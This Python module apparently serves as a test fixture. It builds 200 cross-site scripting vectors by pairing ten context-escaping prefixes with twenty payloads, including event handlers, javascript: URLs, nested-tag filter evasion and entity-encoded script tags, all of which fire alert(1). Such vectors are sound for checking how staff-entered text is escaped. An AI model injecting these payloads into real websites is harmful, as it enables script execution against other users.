"""What a script would look like, in every place where words of staff are shown: 200 ways."""

VECTORS = [
    f"{opening}{payload}"
    for opening in ("", '">', "'>", "</title>", "</textarea>", "</script>", "</option>", "-->", "]]>", "{{7*7}}")
    for payload in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext></p><script>alert(1)</script>",
        '" onfocus=alert(1) autofocus x="',
        "' onmouseover=alert(1) x='",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<input autofocus onfocus=alert(1)>",
        "<style>@import 'javascript:alert(1)'</style>",
        "<object data=javascript:alert(1)>",
        "<form action=javascript:alert(1)><button>x",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=alert(1)>",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<!--<img src=--><img src=x onerror=alert(1)//>",
        "<template><script>alert(1)</script></template>",
    )
]
